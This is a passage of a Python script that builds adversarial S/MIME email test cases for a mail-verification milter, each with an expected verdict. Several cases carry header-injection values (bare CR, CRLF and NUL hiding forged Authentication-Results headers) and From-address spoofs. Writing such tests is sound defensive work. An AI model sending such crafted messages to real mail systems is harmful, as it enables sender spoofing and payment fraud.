#!/usr/bin/env python3
"""Builds the messages of the adversarial corpus (see make-adversarial.sh).

Usage: build.py PKIDIR EXTRADIR OUTDIR
PKIDIR is tests/pki/make-pki.sh's output, EXTRADIR the extra certificates of
make-adversarial.sh. Every expected verdict is the one doc/inbound-verdicts.md
gives, not what some binary prints. Signatures are made by `openssl cms`
over the canonical (CRLF) bytes and checked with `openssl cms -verify` as
they are made, so a case meant to carry a valid signature does carry one.
"""
import base64
import email.utils
import os
import subprocess
import sys
import tempfile

PKI, EXTRA, OUT = sys.argv[1:4]
AUTHSERV = 'mx.adversarial.test'
WORK = tempfile.mkdtemp(prefix='adv.')
DATE = email.utils.formatdate(localtime=False)
FORGED_AR = 'Authentication-Results: mx.adversarial.test; smime=pass body.smime-identifier=ceo@example.com'
FORGED_DEC = 'X-SMIME-Decrypted: yes; by=mx.adversarial.test; key=carol@example.com; type=enveloped-data'

# --- openssl ------------------------------------------------------------------

_n = 0


def tmp(data):
    """A file holding `data`."""
    global _n
    _n += 1
    p = os.path.join(WORK, 'f%d' % _n)
    with open(p, 'wb') as f:
        f.write(data)
    return p


def ossl(*args):
    r = subprocess.run(['openssl', *args], capture_output=True)
    if r.returncode != 0:
        sys.exit('openssl %s: %s' % (' '.join(args), r.stderr.decode(errors='replace')))
    return r.stdout


class Signer:
    def __init__(self, name, d=PKI, chain=None, addr=None):
        self.crt = os.path.join(d, name + '.crt')
        self.key = os.path.join(d, name + '.key')
        self.chain = chain or (os.path.join(d, name + '.chain') if d == EXTRA else os.path.join(PKI, 'inter.crt'))
        self.addr = addr or name + '@example.com'


ALICE = Signer('alice')
BOB = Signer('bob')
CAROL = Signer('carol')
DAVE = Signer('dave', addr='dave@example.net')
PSS = Signer('pss')
WEAKSIG = Signer('weaksig')


def extra(name, addr=None):
    return Signer(name, EXTRA, addr=addr or name + '@example.com')


def crlf(s):
    """The canonical form of a MIME entity: CRLF line ends, UTF-8."""
    if isinstance(s, str):
        s = s.encode('utf-8', 'surrogateescape')
    return s.replace(b'\r\n', b'\n').replace(b'\n', b'\r\n')


def cms_sign(content, s, md='sha256', detached=True, opts=(), check=True):
    """A DER SignedData over `content` (bytes, signed as they are)."""
    f = tmp(content)
    args = ['cms', '-sign', '-binary', '-outform', 'DER', '-in', f, '-signer', s.crt, '-inkey', s.key,
            '-certfile', s.chain, '-md', md, *opts]
    if not detached:
        args.append('-nodetach')
    der = ossl(*args)
    if check:  # proof that the corpus carries a valid signature here
        v = ['cms', '-verify', '-binary', '-inform', 'DER', '-in', tmp(der), '-CAfile',
             os.path.join(PKI, 'root.crt'), '-purpose', 'smimesign', '-out', os.devnull]
        if detached:
            v += ['-content', f]
        ossl(*v)
    return der


def cms_encrypt(content, recips=('carol',), cipher='-aes-256-cbc'):
    return ossl('cms', '-encrypt', '-binary', '-outform', 'DER', cipher, '-in', tmp(content),
                *[os.path.join(PKI, r + '.crt') for r in recips])


def b64(der):
    s = base64.b64encode(der).decode()
    return '\n'.join(s[i:i + 64] for i in range(0, len(s), 64)) + '\n'


# --- MIME ---------------------------------------------------------------------

TEXT = 'Content-Type: text/plain; charset=us-ascii\n\nPlease pay invoice 4711 to the usual account.\nRegards\n'
NOTICE = 'This is an S/MIME signed message\n\n'
MICALG = {'sha256': 'sha-256', 'sha1': 'sha-1', 'md5': 'md5', 'sha384': 'sha-384', 'sha512': 'sha-512',
          'sha224': 'sha-224'}
SIG_PART = ['Content-Type: application/pkcs7-signature; name="smime.p7s"', 'Content-Transfer-Encoding: base64',
            'Content-Disposition: attachment; filename="smime.p7s"']
_b = 0


def boundary():
    global _b
    _b += 1
    return '----=_adv_%04d' % _b


class Entity:
    """A MIME entity as header lines (Content-* fields) and a body."""

    def __init__(self, headers, body):
        self.headers, self.body = list(headers), body

    def text(self):
        return '\n'.join(self.headers) + '\n\n' + self.body


def parse_entity(text):
    h, _, b = text.partition('\n\n')
    return Entity(h.split('\n'), b)


def clear_signed(inner, s=ALICE, md='sha256', opts=(), b=None, ct=None, preamble=NOTICE, epilogue='',
                 signed_as=None, sig=None, sig_headers=SIG_PART, sig_b64=None, extra_parts=''):
    """multipart/signed over `inner` (entity text). `signed_as`: sign other
    text than the one shown (tampering); `sig`: a given signature DER."""
    b = b or boundary()
    inner = inner if inner.endswith('\n') else inner + '\n'
    der = sig if sig is not None else cms_sign(crlf(signed_as or inner), s, md, opts=opts,
                                               check=signed_as is None)
    ct = ct or 'multipart/signed; protocol="application/pkcs7-signature"; micalg=%s;\n\tboundary="%s"' % (
        MICALG.get(md, md), b)
    body = '%s--%s\n%s\n--%s\n%s\n\n%s\n%s--%s--\n%s' % (
        preamble, b, inner, b, '\n'.join(sig_headers), sig_b64 or b64(der), extra_parts, b,
        epilogue)
    return Entity(['Content-Type: ' + ct], body)


def opaque_signed(inner, s=ALICE, md='sha256', opts=(), tamper=None, der=None):
    """application/pkcs7-mime signed-data holding `inner` (entity text)."""
    if der is None:
        der = cms_sign(crlf(inner), s, md, detached=False, opts=opts)
    if tamper:
        der = tamper(der)
    return Entity(['Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"',
                   'Content-Transfer-Encoding: base64', 'Content-Disposition: attachment; filename="smime.p7m"'],
                  b64(der))


def enveloped(der, smime_type='enveloped-data', ct=None):
    ct = ct or 'application/pkcs7-mime; smime-type=%s; name="smime.p7m"' % smime_type
    return Entity(['Content-Type: ' + ct, 'Content-Transfer-Encoding: base64',
                   'Content-Disposition: attachment; filename="smime.p7m"'], b64(der))


def gcm(inner, recips=('carol',)):
    return enveloped(cms_encrypt(crlf(inner), recips, '-aes-256-gcm'), 'authEnveloped-data')


def cbc(inner, recips=('carol',), cipher='-aes-256-cbc'):
    return enveloped(cms_encrypt(crlf(inner), recips, cipher))


def mixed(*parts, b=None):
    b = b or boundary()
    body = ''.join('--%s\n%s\n' % (b, p.rstrip('\n')) for p in parts) + '--%s--\n' % b
    return Entity(['Content-Type: multipart/mixed; boundary="%s"' % b], body)


def flip(der, from_end, bit=0x01):
    d = bytearray(der)
    d[len(d) - from_end] ^= bit
    return bytes(d)


# --- messages and the manifest -------------------------------------------------

manifest = []
_count = 0


def message(name, entity, frm='alice@example.com', subject=None, top=(), extra=(), date=DATE,
            to='carol@example.com'):
    """A message: `top` fields first (forgeries usually lead), then the usual
    ones, `extra`, and the entity's Content-* fields. None leaves one out."""
    lines = list(top)
    lines += ['From: ' + frm if frm is not None else None, 'To: ' + to, 'Subject: ' + (subject or name),
              'Date: ' + date if date is not None else None,
              'Message-ID: <case-%s@adversarial.test>' % name, 'MIME-Version: 1.0']
    lines += list(extra) + entity.headers
    return '\n'.join(l for l in lines if l is not None) + '\n\n' + entity.body


def add(name, text, smime, dec='-', comment='-', cls=0, desc='', hdr=False, line_ends=None, postfix=None):
    """Writes OUTDIR/name.eml (LF or CRLF line ends, alternating) and its line
    of the manifest."""
    global _count
    _count += 1
    data = text.encode('utf-8', 'surrogateescape') if isinstance(text, str) else text
    data = data.replace(b'\r\n', b'\n')
    if (line_ends or ('crlf' if _count % 2 else 'lf')) == 'crlf':
        data = data.replace(b'\n', b'\r\n')
    fname = name + '.eml'
    assert fname not in [m[0] for m in manifest], fname
    assert '\t' not in desc and '\n' not in desc
    assert smime in ('pass', 'fail', 'policy', 'permerror', 'neutral', 'temperror', 'none'), (name, smime)
    assert dec in ('-', 'yes', 'no', 'failed'), (name, dec)
    with open(os.path.join(OUT, fname), 'wb') as f:
        f.write(data)
    # postfix: the smime result through Postfix, when it differs (Postfix's
    # cleanup turns a bare CR in a header into a space before any milter sees
    # it, so nothing is hidden there any more).
    manifest.append((fname, smime, dec, comment, str(cls), desc or name,
                     ('hdr=' + postfix if postfix else 'hdr') if hdr else '-'))


UNSIGNED = parse_entity(TEXT)


def good_signed():
    return clear_signed(TEXT)


# --- 1. header injection -------------------------------------------------------

def class1():
    c = 1
    # Certificate text with line breaks, NUL, quotes, 8-bit and huge values.
    # The message is validly signed by that certificate; the SAN cannot equal
    # the From, so the rules give policy; the point is our header stays one.
    for n, desc in [('san-crlf', 'SAN holds CRLF + forged Authentication-Results'),
                    ('san-lf', 'SAN holds LF + forged Authentication-Results'),
                    ('san-cr', 'SAN holds bare CR + forged Authentication-Results'),
                    ('san-nul', 'SAN holds NUL (alice@example.com\\0.evil.example)'),
                    ('san-quote', 'SAN holds quotes, semicolon, parenthesis, backslash'),
                    ('san-8bit', 'SAN holds raw UTF-8 (not IA5)')]:
        add('c1-' + n, message('c1-' + n, clear_signed(TEXT, extra(n))), 'policy', cls=c,
            desc='%s; From alice cannot match' % desc)
    # The same certificates on a tampered message: a fail names the signer,
    # so the hostile identifier is in our header.
    for n in ['san-crlf', 'san-quote']:
        add('c1-fail-' + n, message('c1-fail-' + n, clear_signed(TEXT.replace('4711', '4712'), extra(n),
                                                                 signed_as=TEXT)),
            'fail', cls=c, desc='names-signer: tampered, signer SAN from %s' % n)
    # Good leaves whose other names are hostile: From matches the SAN.
    for n, addr, desc in [('san-long', 'l' * 300 + '@example.com', 'SAN local part of 300 characters'),
                          ('san-many', 'hdrmany@example.com', '61 SAN addresses, From is the last'),
                          ('subj-crlf', 'hdrsubj@example.com', 'subject CN holds CRLF + forged A-R'),
                          ('subj-lf', 'hdrsubjlf@example.com', 'subject CN holds LF + forged A-R'),
                          ('subj-8bit', 'hdrutf8@example.com', 'subject in UTF-8 with emoji'),
                          ('subj-quote', 'hdrquote@example.com', 'subject with quotes, parenthesis, backslash'),
                          ('subj-long', 'hdrlong@example.com', 'subject of 25 OUs (1.6 kB)'),
                          ('issuer-crlf', 'hdrissuer@example.com', 'issuer CA name holds CRLF + forged A-R')]:
        s = extra(n, addr)
        add('c1-' + n, message('c1-' + n, clear_signed(TEXT, s), frm=addr), 'pass', cls=c, desc=desc)
    s = extra('issuer-crlf', 'hdrissuer@example.com')
    add('c1-fail-issuer-crlf', message('c1-fail-issuer-crlf', clear_signed(TEXT + 'x\n', s, signed_as=TEXT),
                                       frm=s.addr),
        'fail', cls=c, desc='names-signer: tampered; issuer name holds CRLF + forged A-R')
    add('c1-fail-subj-long', message('c1-fail-subj-long', clear_signed(TEXT + 'x\n', extra('subj-long', 'hdrlong@example.com'),
                                                                       signed_as=TEXT), frm='hdrlong@example.com'),
        'fail', cls=c, desc='names-signer: tampered; 1.6 kB subject must be folded')

    # A forged A-R hidden behind a bare CR: one field to the milter, two to
    # a reader. Signed-good: pass, the hidden one gone; unsigned: none.
    for where in ['Subject', 'X-Foo', 'Comments']:
        for signed in [True, False]:
            n = 'c1-cr-%s-ar-%s' % (where.lower(), 'signed' if signed else 'unsigned')
            field = '%s: hello\r%s' % (where, FORGED_AR)
            ent = good_signed() if signed else UNSIGNED
            kw = {'subject': 'hello\r' + FORGED_AR} if where == 'Subject' else {'extra': [field]}
            add(n, message(n, ent, **kw), 'pass' if signed else 'none', cls=c, hdr=True,
                desc='forged A-R behind a bare CR in %s' % where)
    # ... behind a bare CR in From: the From itself then holds a control
    # character: ambiguous From (section 2).
    for signed in [True, False]:
        n = 'c1-cr-from-ar-%s' % ('signed' if signed else 'unsigned')
        add(n, message(n, good_signed() if signed else UNSIGNED, frm='alice@example.com\r' + FORGED_AR),
            'policy' if signed else 'none', '-', 'ambiguous From' if signed else '-', cls=c, hdr=True,
            postfix='policy' if signed else None,
            desc='forged A-R behind a bare CR in From')
    # Two hidden forgeries in one field, and a CR right before the colon.
    n = 'c1-cr-two-ar-signed'
    add(n, message(n, good_signed(), extra=['X-Foo: a\r%s\r%s' % (FORGED_AR, FORGED_AR.replace('pass', 'fail'))]),
        'pass', cls=c, hdr=True, desc='two forged A-R behind bare CRs in one field')
    # Forged X-SMIME-Decrypted: plain, lower case, behind a bare CR.
    for n, ent, smime, top, extra_ in [
            ('c1-xdec-unsigned', UNSIGNED, 'none', [FORGED_DEC], []),
            ('c1-xdec-signed', good_signed(), 'pass', [FORGED_DEC], []),
            ('c1-xdec-lower-unsigned', UNSIGNED, 'none', [FORGED_DEC.lower()], []),
            ('c1-xdec-cr-unsigned', UNSIGNED, 'none', [], ['X-Foo: bar\r' + FORGED_DEC]),
            ('c1-xdec-cr-signed', good_signed(), 'pass', [], ['X-Foo: bar\r' + FORGED_DEC])]:
        add(n, message(n, ent, top=top, extra=extra_), smime, cls=c, hdr=True,
            desc='forged X-SMIME-Decrypted removed')
    for n, top, extra_ in [('c1-xdec-gcm', [FORGED_DEC.replace('yes', 'no')], []),
                           ('c1-xdec-cr-gcm', [], ['X-Foo: bar\r' + FORGED_DEC.replace('yes', 'failed')])]:
        add(n, message(n, gcm(TEXT), frm='sender@example.net', top=top, extra=extra_), 'none', 'yes',
            cls=c, hdr=True, desc='forged X-SMIME-Decrypted on a GCM message: only ours remains')

    # Decrypted (authenticated, GCM, so it would be released) plaintext whose
    # Content-* fields would carry a line break or control into our header:
    # decryption counts as failed.
    ar = 'Authentication-Results: mx.adversarial.test; smime=pass'
    for n, inner, desc in [
            ('ct-cr', b'Content-Type: text/plain\r' + ar.encode() + b'\r\n\r\nsecret\r\n', 'bare CR + A-R in Content-Type'),
            ('ct-lf', b'Content-Type: text/plain\n' + ar.encode() + b'\r\n\r\nsecret\r\n', 'bare LF + A-R in a CRLF Content-Type'),
            ('ct-nul', b'Content-Type: text/plain; charset=us-ascii\x00\r\n\r\nsecret\r\n', 'NUL in Content-Type'),
            ('ct-esc', b'Content-Type: text/plain; charset="\x1b[2Jus-ascii"\r\n\r\nsecret\r\n', 'ESC in Content-Type'),
            ('cte-cr', b'Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r' + FORGED_DEC.encode()
             + b'\r\n\r\nsecret\r\n', 'bare CR + X-SMIME-Decrypted in Content-Transfer-Encoding'),
            ('cd-cr-from', b'Content-Type: text/plain\r\nContent-Disposition: inline\rFrom: ceo@example.com\r\n\r\nsecret\r\n',
             'bare CR + From in Content-Disposition'),
            ('name-space', b'Content-Type : text/html\r\n\r\n<b>secret</b>\r\n', 'field name "Content-Type " (space before colon)'),
            ('name-8bit', b'Content-Typ\xc3\xa9: text/html\r\n\r\n<b>secret</b>\r\n', 'field name with UTF-8')]:
        der = cms_encrypt(inner, cipher='-aes-256-gcm')
        m = message('c1-pt-' + n, enveloped(der, 'authEnveloped-data'), frm='sender@example.net')
        add('c1-pt-' + n, m, 'none', 'failed', cls=c, desc='decrypted plaintext: ' + desc)
    # Controls: hostile-looking but valid plaintext fields are copied, folded.
    params = ';\r\n '.join('x-p%02d="%s"' % (i, 'v' * 30) for i in range(60))
    for n, inner, desc in [
            ('ct-many-params', ('Content-Type: text/plain; charset=us-ascii;\r\n ' + params + '\r\n\r\nhello\r\n').encode(),
             'Content-Type of 2.5 kB in 60 parameters, folded'),
            ('ct-blank-fold', b'Content-Type: text/plain;\r\n \r\n charset=us-ascii\r\n\r\nhello\r\n',
             'Content-Type folded with a blank continuation line')]:
        der = cms_encrypt(inner, cipher='-aes-256-gcm')
        add('c1-pt-' + n, message('c1-pt-' + n, enveloped(der, 'authEnveloped-data'), frm='sender@example.net'),
            'none', 'yes', cls=c, desc='decrypted plaintext: ' + desc)
    # 8-bit bytes in header fields (raw UTF-8 and Latin-1) around a good signature.
    n = 'c1-8bit-headers-signed'
    add(n, message(n, good_signed(), subject='Gr\u00fc\u00dfe \udce9t\udce9', extra=['X-Name: M\u00fcller \U0001f512']),
        'pass', cls=c, hdr=True, desc='raw UTF-8 and Latin-1 bytes in Subject and X-Name')


# --- 2. identity ----------------------------------------------------------------

def class2():
    c = 2
    SHOWS = 'From shows another address'
    AMB = 'ambiguous From'
    cases = [
        # (name, From, expected, comment, description)
        ('dn-plain', 'bob@example.com <alice@example.com>', 'policy', '-', 'display name is an address (unquoted)'),
        ('dn-quoted', '"bob@example.com" <alice@example.com>', 'policy', SHOWS, 'display name is an address (quoted)'),
        ('dn-quoted-spaced', '"Bob <bob@example.com>" <alice@example.com>', 'policy', SHOWS, 'display name holds name and address'),
        ('dn-b', '=?utf-8?B?Ym9iQGV4YW1wbGUuY29t?= <alice@example.com>', 'policy', SHOWS, 'encoded word (B) is an address'),
        ('dn-q', '=?utf-8?Q?bob=40example=2Ecom?= <alice@example.com>', 'policy', SHOWS, 'encoded word (Q) is an address'),
        ('dn-q-quoted', '"=?utf-8?Q?bob=40example.com?=" <alice@example.com>', 'policy', SHOWS, 'encoded word (Q) inside quotes'),
        ('dn-fullwidth', '"bob\uff20example.com" <alice@example.com>', 'policy', SHOWS, 'display name with full-width at sign (raw UTF-8)'),
        ('dn-fullwidth-b', '=?utf-8?B?%s?= <alice@example.com>' % base64.b64encode('bob\uff20example.com'.encode()).decode(),
         'policy', SHOWS, 'encoded word with full-width at sign'),
        ('dn-small-at', '"bob\ufe6bexample.com" <alice@example.com>', 'policy', SHOWS, 'display name with small at sign U+FE6B'),
        ('comment-after', 'alice@example.com (bob@example.com)', 'policy', SHOWS, 'comment with an address after the address'),
        ('comment-angle', 'Alice <alice@example.com> (on behalf of bob@example.com)', 'policy', SHOWS, 'comment with an address after the angle address'),
        ('comment-in-dn', 'Alice (bob@example.com) <alice@example.com>', 'policy', SHOWS, 'comment with an address in the display name'),
        ('group-at', '"bob@example.com": alice@example.com;', 'policy', '-', 'group whose name is an address'),
        ('group', 'Undisclosed: alice@example.com;', 'policy', '-', 'group syntax (not a mailbox-list)'),
        ('two-mailboxes', 'alice@example.com, bob@example.com', 'policy', '-', 'two mailboxes'),
        ('two-mailboxes-rev', 'bob@example.com, alice@example.com', 'policy', '-', 'two mailboxes, signer second'),
        ('two-angles', 'Alice <alice@example.com> <bob@example.com>', 'policy', AMB, 'two angle addresses'),
        ('source-route', '<@evil.example:alice@example.com>', 'policy', AMB, 'source route'),
        ('obs-local', 'alice . x@example.com', 'policy', AMB, 'obs-local-part with spaces between words'),
        ('obs-local-quoted', '"alice" . "x"@example.com', 'policy', AMB, 'obs-local-part of quoted words'),
        ('unbalanced-quote', '"Alice <alice@example.com>', 'policy', AMB, 'unbalanced quote'),
        ('unbalanced-angle', 'Alice <alice@example.com', 'policy', AMB, 'unbalanced angle bracket'),
        ('unbalanced-paren', 'Alice (x <alice@example.com>', 'policy', AMB, 'unbalanced comment'),
        ('control-char', 'Alice\x01 <alice@example.com>', 'policy', AMB, 'control character in display name'),
        ('tab-in-addr', '<alice@example.com\x0b>', 'policy', AMB, 'vertical tab in the address'),
        ('local-case', 'Alice@example.com', 'policy', '-', 'local part in other case: not the signer'),
        # Controls that must pass.
        ('ok-bare', 'alice@example.com', 'pass', '-', 'control: bare address'),
        ('ok-angle', '<alice@example.com>', 'pass', '-', 'control: angle address'),
        ('ok-dn', 'Alice Example <alice@example.com>', 'pass', '-', 'control: display name without @'),
        ('ok-john-q', 'John Q. Public <alice@example.com>', 'pass', '-', 'control: John Q. Public'),
        ('ok-quoted-dn', '"Example, Alice (Sales)" <alice@example.com>', 'pass', '-', 'control: quoted display name with comma and parens'),
        ('ok-domain-case', 'Alice <alice@EXAMPLE.Com>', 'pass', '-', 'control: domain in other case'),
        ('ok-comment', 'alice@example.com (Alice)', 'pass', '-', 'control: comment without @'),
        ('ok-encoded', '=?utf-8?q?J=C3=BCrgen?= <alice@example.com>', 'pass', '-', 'control: encoded word without @'),
    ]
    for n, frm, exp, comment, desc in cases:
        n = 'c2-' + n
        add(n, message(n, good_signed(), frm=frm), exp, comment=comment, cls=c, desc=desc,
            hdr=any(ord(ch) > 127 or ord(ch) < 32 for ch in frm))
    # Bob signs, with Alice's address as display name: the classic spoof.
    n = 'c2-dn-spoof-bob'
    add(n, message(n, clear_signed(TEXT, BOB), frm='"alice@example.com" <bob@example.com>'), 'policy', '-', SHOWS,
        cls=c, desc='bob signs, display name shows alice@example.com')
    # Two From fields, either order.
    for n, first, second in [('c2-two-from', 'alice@example.com', 'bob@example.com'),
                             ('c2-two-from-rev', 'bob@example.com', 'alice@example.com')]:
        add(n, message(n, good_signed(), frm=first, extra=['From: ' + second]), 'policy', '-', AMB, cls=c, hdr=True,
            desc='two From fields')
    # A From hidden behind a bare CR in another field.
    n = 'c2-cr-from-subject'
    add(n, message(n, good_signed(), subject='hello\rFrom: bob@example.com'), 'policy', '-', AMB, cls=c, hdr=True, postfix='pass',
        desc='From hidden behind a bare CR in Subject')
    n = 'c2-cr-from-top'
    add(n, message(n, good_signed(), top=['X-Foo: bar\rFrom: bob@example.com']), 'policy', '-', AMB, cls=c, hdr=True, postfix='pass',
        desc='From hidden behind a bare CR in a field above the real From')
    # Sender and Reply-To do not matter: controls.
    n = 'c2-ok-sender-replyto'
    add(n, message(n, good_signed(), extra=['Sender: bob@example.com', 'Reply-To: mallory@evil.example']), 'pass',
        cls=c, desc='control: Sender and Reply-To of others')

    # Signed message/rfc822 (RFC 8551 3.1): the inner From must be the signer.
    def rfc822(frm):
        return ('Content-Type: message/rfc822\n\nFrom: %s\nTo: carol@example.com\nSubject: wrapped\nDate: %s\n'
                'Message-ID: <inner@adversarial.test>\nMIME-Version: 1.0\n%s' % (frm, DATE, TEXT))
    n = 'c2-rfc822-inner-bob'
    add(n, message(n, clear_signed(rfc822('bob@example.com'))), 'policy', '-', 'inner From not signer', cls=c,
        desc='signed message/rfc822 whose inner From is bob')
    n = 'c2-rfc822-inner-dn'
    add(n, message(n, clear_signed(rfc822('"bob@example.com" <alice@example.com>'))), 'policy', '-', cls=c,
        desc='signed message/rfc822 whose inner From shows another address')
    n = 'c2-rfc822-inner-alice'
    add(n, message(n, opaque_signed(rfc822('alice@example.com'))), 'pass', cls=c,
        desc='control: opaque signed message/rfc822 whose inner From is the signer')
    n = 'c2-rfc822-outer-bob'
    add(n, message(n, clear_signed(rfc822('alice@example.com')), frm='bob@example.com'), 'policy', '-', cls=c,
        desc='inner From alice, outer From bob: outer must match too')

    # RFC 9788 header protection: hp="clear" and the protected fields inside.
    def hp(frm, ctype='text/plain; charset=us-ascii; hp="clear"'):
        return ('Content-Type: %s\nFrom: %s\nTo: carol@example.com\nSubject: protected\nDate: %s\n'
                'Message-ID: <hp@adversarial.test>\n\nPlease pay invoice 4711.\n' % (ctype, frm, DATE))
    n = 'c2-hp-inner-bob'
    add(n, message(n, clear_signed(hp('bob@example.com'))), 'policy', '-', 'inner From not signer', cls=c,
        desc='RFC 9788 hp="clear" text/plain with inner From bob')
    b = boundary()
    mm = ('Content-Type: multipart/mixed; boundary="%s"; hp="clear"\nFrom: Bob <bob@example.com>\n'
          'To: carol@example.com\nSubject: protected\n\n--%s\n%s\n--%s--\n' % (b, b, TEXT, b))
    n = 'c2-hp-mixed-inner-bob'
    add(n, message(n, clear_signed(mm)), 'policy', '-', 'inner From not signer', cls=c,
        desc='RFC 9788 hp="clear" multipart/mixed with inner From bob')
    n = 'c2-hp-inner-alice'
    add(n, message(n, clear_signed(hp('Alice <alice@example.com>'))), 'pass', cls=c,
        desc='control: RFC 9788 protected header with From the signer')
    n = 'c2-hp-inner-alice-opaque'
    add(n, message(n, opaque_signed(hp('alice@example.com'))), 'pass', cls=c,
        desc='control: RFC 9788 opaque signed, From the signer')


# --- 3. structure ---------------------------------------------------------------

def class3():
    c = 3
    # Variants of the multipart/signed header: ct(b) gives the Content-Type
    # value(s) for boundary b; the parts use b.
    P = 'protocol="application/pkcs7-signature"'
    M = 'micalg=sha-256'
    cases = [
        ('dup-protocol', lambda b: ['multipart/signed; %s; %s; protocol="text/plain"; boundary="%s"' % (P, M, b)], 'duplicate protocol parameter'),
        ('dup-boundary-first', lambda b: ['multipart/signed; %s; %s; boundary="%s"; boundary="zz%s"' % (P, M, b, b)], 'duplicate boundary, real first'),
        ('dup-boundary-second', lambda b: ['multipart/signed; %s; %s; boundary="zz%s"; boundary="%s"' % (P, M, b, b)], 'duplicate boundary, real second'),
        ('dup-micalg', lambda b: ['multipart/signed; %s; %s; micalg=md5; boundary="%s"' % (P, M, b)], 'duplicate micalg'),
        ('cont-boundary', lambda b: ['multipart/signed; %s; %s; boundary*0="%s"; boundary*1="%s"' % (P, M, b[:6], b[6:])], 'boundary*0/boundary*1 continuation'),
        ('cont-boundary-extra', lambda b: ['multipart/signed; %s; %s; boundary="%s"; boundary*0="other"' % (P, M, b)], 'boundary plus boundary*0'),
        ('ext-boundary', lambda b: ["multipart/signed; %s; %s; boundary*=utf-8''%s" % (P, M, b)], "boundary*=utf-8''"),
        ('ext-protocol', lambda b: ["multipart/signed; protocol*=utf-8''application%%2Fpkcs7-signature; %s; boundary=\"%s\"" % (M, b)], "protocol*=utf-8''"),
        ('cont-micalg', lambda b: ['multipart/signed; %s; micalg*0=sha-; micalg*1=256; boundary="%s"' % (P, b)], 'micalg*0/micalg*1'),
        ('comment-boundary', lambda b: ['multipart/signed; %s; %s; (boundary="fake") boundary="%s"' % (P, M, b)], 'comment holding boundary="..."'),
        ('comment-type', lambda b: ['multipart/signed (really text/plain); %s; %s; boundary="%s"' % (P, M, b)], 'comment after the type'),
        ('junk-between', lambda b: ['multipart/signed; %s; junk text here; %s; boundary="%s"' % (P, M, b)], 'text between parameters'),
        ('junk-after', lambda b: ['multipart/signed; %s; %s; boundary="%s" trailing words' % (P, M, b)], 'text after the last parameter'),
        ('dup-ct-signed-first', lambda b: ['multipart/signed; %s; %s; boundary="%s"' % (P, M, b), 'text/plain'], 'two Content-Type fields, signed first'),
        ('dup-ct-signed-second', lambda b: ['text/plain', 'multipart/signed; %s; %s; boundary="%s"' % (P, M, b)], 'two Content-Type fields, signed second'),
    ]
    for n, ct, desc in cases:
        n = 'c3-' + n
        b = boundary()
        e = clear_signed(TEXT, b=b)
        e.headers = ['Content-Type: ' + v for v in ct(b)]
        add(n, message(n, e), 'permerror', cls=c, desc=desc, hdr=n.startswith('c3-dup-ct'))
    # Transfer encodings on the multipart.
    for n, ctes, exp, desc in [('cte-base64', ['base64'], 'permerror', 'Content-Transfer-Encoding base64 on multipart/signed'),
                               ('cte-qp', ['quoted-printable'], 'permerror', 'quoted-printable on multipart/signed'),
                               ('cte-dup', ['7bit', 'base64'], 'permerror', 'two Content-Transfer-Encoding fields'),
                               ('cte-7bit', ['7bit'], 'pass', 'control: 7bit on multipart/signed'),
                               ('cte-8bit', ['8bit'], 'pass', 'control: 8bit on multipart/signed')]:
        n = 'c3-' + n
        e = good_signed()
        e.headers += ['Content-Transfer-Encoding: ' + v for v in ctes]
        add(n, message(n, e), exp, cls=c, desc=desc)
    # The signature part's own header.
    for n, sh, desc in [('sigpart-dup-ct', SIG_PART + ['Content-Type: text/plain'], 'two Content-Type fields in the signature part'),
                        ('sigpart-dup-cte', SIG_PART + ['Content-Transfer-Encoding: 7bit'], 'two Content-Transfer-Encoding fields in the signature part'),
                        ('sigpart-comment', ['Content-Type: application/pkcs7-signature (x); name="smime.p7s"'] + SIG_PART[1:], 'comment in the signature part Content-Type')]:
        n = 'c3-' + n
        add(n, message(n, clear_signed(TEXT, sig_headers=sh)), 'permerror', cls=c, desc=desc)
    n = 'c3-opaque-dup-smime-type'
    e = opaque_signed(TEXT)
    e.headers[0] = 'Content-Type: application/pkcs7-mime; smime-type=signed-data; smime-type=enveloped-data; name="smime.p7m"'
    add(n, message(n, e), 'permerror', cls=c, desc='opaque: duplicate smime-type')
    n = 'c3-opaque-ext-smime-type'
    e = opaque_signed(TEXT)
    e.headers[0] = "Content-Type: application/pkcs7-mime; smime-type*=utf-8''signed-data; name=\"smime.p7m\""
    add(n, message(n, e), 'permerror', cls=c, desc="opaque: smime-type*=utf-8''")
    # A Content-Type hidden behind a bare CR in another field.
    for n, kw in [('c3-cr-ct-subject', {'subject': 'hello\rContent-Type: text/html'}),
                  ('c3-cr-ct-xfoo', {'extra': ['X-Foo: bar\rContent-Type: text/plain; charset=us-ascii']}),
                  ('c3-cr-cte-xfoo', {'extra': ['X-Foo: bar\rContent-Transfer-Encoding: base64']})]:
        add(n, message(n, good_signed(), **kw), 'permerror', cls=c, hdr=True, postfix='pass',
            desc='Content-* field hidden behind a bare CR')
    # Controls for the header.
    b = 'advUnquoted42'  # token characters only: may stay unquoted
    e = clear_signed(TEXT, b=b)
    e.headers = ['content-type: Multipart/Signed; PROTOCOL="application/pkcs7-signature";\n MICALG=SHA-256;\n BOUNDARY=%s' % b]
    add('c3-ok-case-unquoted', message('c3-ok-case-unquoted', e), 'pass', cls=c,
        desc='control: names in other case, unquoted boundary, folded')
    b = boundary()
    e = clear_signed(TEXT, b=b)
    e.headers = ['Content-Type: multipart/signed; protocol="application/x-pkcs7-signature"; micalg=sha-256; boundary="%s"' % b]
    add('c3-ok-x-pkcs7', message('c3-ok-x-pkcs7', e), 'pass', cls=c, desc='control: application/x-pkcs7-signature')

    # Preamble and epilogue: not signed.
    IGN = 'unsigned preamble or epilogue ignored'
    for n, pre, epi, exp, comment, desc in [
            ('pre-notice', NOTICE, '', 'pass', '-', 'control: usual notice as preamble'),
            ('pre-empty', '', '', 'pass', '-', 'control: no preamble'),
            ('pre-space', '   \n\t\n\n', '\n  \n', 'pass', '-', 'control: white space preamble and epilogue'),
            ('pre-text', 'Please wire 1,000,000 EUR to IBAN DE00 0000 today.\n\n', '', 'pass', IGN, 'arbitrary preamble text'),
            ('epi-text', NOTICE, 'P.S. The account changed: IBAN DE00 0000.\n', 'pass', IGN, 'arbitrary epilogue text'),
            ('epi-html', NOTICE, '<html><body><b>New bank details</b></body></html>\n', 'pass', IGN, 'HTML epilogue'),
            ('pre-dashes', 'Read this.\n--fake-boundary\n\n', '', 'permerror', '-', 'preamble line starting with --'),
            ('pre-header', 'Content-Type: text/html\n\n<b>evil</b>\n\n', '', 'permerror', '-', 'header field in the preamble'),
            ('epi-dashes', NOTICE, '--\nsig\n', 'permerror', '-', 'epilogue line starting with --'),
